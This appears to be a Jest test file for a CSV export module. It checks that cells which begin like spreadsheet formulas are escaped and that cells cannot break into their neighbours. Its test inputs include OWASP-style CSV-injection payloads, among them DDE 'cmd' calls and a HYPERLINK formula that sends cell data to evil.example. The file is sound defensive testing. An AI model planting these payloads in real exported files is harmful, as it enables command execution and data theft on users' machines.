import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { isFormula, plainCell, writeRow } from './csv-cell';
import { tableRows } from './table-rows';

const read = (text: string) => [...tableRows(text, ',')][0]?.cells.map(plainCell);

describe('a cell of an exported file', () => {
  // The signs that the OWASP page on CSV injection lists, and attacks that begin with them.
  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '="",=1+1',
    '=1+1";=1+2',
  ])('that begins like a formula is a text: %j', (text) => {
    expect(writeRow([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
  });

  it('cannot end its own cell and begin another', () => {
    expect(writeRow(['a","=1+1', 'b\r\n=1+1'])).toBe('"a"",""=1+1","b\r\n=1+1"\r\n');
  });

  it('is read back as it was written, the apostrophe gone', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", 'a', '"', ',', ' ', '\n') });
    fc.assert(
      fc.property(
        fc.array(
          text.map((each) => each.trim()).filter((each) => !/^'[=+\-@]/.test(each)),
          { minLength: 2, maxLength: 4 },
        ),
        (cells) => {
          expect(read(writeRow(cells))).toEqual(cells);
        },
      ),
    );
  });
});

describe('a cell of a file that comes in', () => {
  it('is a formula when a spreadsheet would compute it, and a text when an apostrophe says so', () => {
    expect(['=1+1', ' =A1', "'=1+1", '-Ana', 'Dana'].map(isFormula)).toEqual([true, true, false, false, false]);
    expect(["'=1+1", "'Ana", " O'Brien "].map(plainCell)).toEqual(['=1+1', "'Ana", "O'Brien"]);
  });
});
